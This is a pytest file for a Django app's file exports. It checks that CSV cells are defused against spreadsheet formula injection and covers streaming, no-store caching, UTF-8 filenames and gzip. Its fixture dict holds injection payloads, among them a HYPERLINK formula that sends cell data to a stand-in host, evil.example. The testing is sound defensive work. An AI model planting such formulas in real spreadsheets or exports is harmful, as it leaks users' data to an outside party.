"""Export files as a user receives them: streamed, safe to open in a spreadsheet (no cell is
evaluated as a formula), UTF-8 with a BOM for CSV, named in the experiment's or bank's own
script, and never stored by a cache."""

import csv
import gzip
import io
import json
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.urls import reverse

from probe.csvfile import csv_text
from probe.models import Response
from scoring.report.exports import RESPONSE_COLUMNS
from tests.scoring.factories import score_all

from .conftest import build

HOSTILE = {
    1: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    2: "+1+2",
    3: "-2+3",
    4: "@SUM(A1:A9)",
    5: "\tTAB-led",
    6: "\rCR-led",
}
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def hostile(world, scorer, client):
    built = build(world, {("Twelve", 1): "C" * 6 + "W" * 4}, name="実験 日本語")
    assignment = score_all(built.experiment, scorer)
    for position, answer in HOSTILE.items():
        Response.objects.filter(run__experiment=built.experiment, item__position=position).update(
            answer=answer
        )
    client.force_login(scorer)
    return assignment


def export(client, assignment, what, fmt):
    url = reverse(
        "scoring:export", kwargs={"assignment_token": assignment.token, "what": what, "fmt": fmt}
    )
    return client.get(url)


def test_csv_neutralises_cells_a_spreadsheet_would_evaluate(hostile, client):
    response = export(client, hostile, "responses", "csv")
    raw = response.getvalue()
    assert raw.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == RESPONSE_COLUMNS
    answers = {int(r["item"]): r["answer"] for r in rows}
    for position, answer in HOSTILE.items():
        assert answers[position] == "'" + answer  # shown as text, the original after the quote
    assert answers[7] == "wrong 7 Twelve 1"  # an ordinary answer is untouched
    # Numbers stay numbers.
    assert all(r["item"].isdigit() and r["repeat"] == "1" for r in rows)


def test_json_keeps_the_text_as_it_was(hostile, client):
    data = json.loads(export(client, hostile, "responses", "json").getvalue())
    answers = {r["item"]: r["answer"] for r in data["responses"]}
    assert answers == {**answers, **HOSTILE}


def test_a_negative_number_is_not_taken_for_a_formula():
    text = csv_text([{"gap": -2.5, "n": -3, "label": "-3"}], ["gap", "n", "label"])
    assert text.splitlines()[1] == "-2.5,-3,'-3"


def test_exports_stream_and_are_never_cached(hostile, client):
    for what, fmt in [("responses", "csv"), ("responses", "json"), ("responses", "jsonl")]:
        response = export(client, hostile, what, fmt)
        assert response.status_code == 200 and response.streaming, (what, fmt)
        assert "no-store" in response["Cache-Control"]
    for fmt in ("csv", "json"):
        response = export(client, hostile, "figures", fmt)
        assert "no-store" in response["Cache-Control"]
    assert export(client, hostile, "figures", "jsonl").status_code == 404


def test_json_lines_has_one_response_a_line(hostile, client):
    lines = export(client, hostile, "responses", "jsonl").getvalue().decode().splitlines()
    assert len(lines) == 10
    rows = [json.loads(line) for line in lines]
    assert list(rows[0]) == RESPONSE_COLUMNS
    assert [r["item"] for r in rows] == list(range(1, 11))


def test_a_japanese_name_downloads_under_that_name(hostile, client):
    response = export(client, hostile, "responses", "csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert f"filename*=UTF-8''{quote('実験-日本語-responses.csv')}" in disposition


def test_the_bank_export_is_named_in_its_script_and_never_cached(client, world):
    client.force_login(world.users["editor"])
    url = reverse("probe:bank_export", kwargs={"bank_pk": world.bank.pk})
    plain = client.get(url + "?format=json")
    assert plain["Content-Disposition"].startswith('attachment; filename="acme-secret-bank.json"; ')
    world.bank.name = "日本語の設問"
    world.bank.save()
    for fmt, extension in (("json", "json"), ("text", "txt")):
        response = client.get(url + f"?format={fmt}")
        assert "no-store" in response["Cache-Control"]
        assert (
            f"filename*=UTF-8''{quote('日本語の設問.' + extension)}"
            in (response["Content-Disposition"])
        )


def test_the_command_streams_json_lines_and_a_bom_csv(hostile, tmp_path):
    out = io.StringIO()
    call_command(
        "export_results",
        str(hostile.experiment.pk),
        "--format",
        "jsonl",
        stdout=out,
        stderr=io.StringIO(),
    )
    assert len(out.getvalue().splitlines()) == 10
    target = tmp_path / "responses.csv"
    call_command(
        "export_results",
        str(hostile.experiment.pk),
        "--output",
        str(target),
        stderr=io.StringIO(),
    )
    assert target.read_bytes().startswith(BOM)
    rows = list(csv.DictReader(target.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == 10 and rows[0]["answer"].startswith("'=")


def test_a_streamed_export_is_gzipped_for_a_browser_that_accepts_it(hostile, client):
    url = reverse(
        "scoring:export",
        kwargs={"assignment_token": hostile.token, "what": "responses", "fmt": "csv"},
    )
    response = client.get(url, HTTP_ACCEPT_ENCODING="gzip")
    assert response.streaming and response["Content-Encoding"] == "gzip"
    text = gzip.decompress(response.getvalue()).decode("utf-8-sig")
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 10
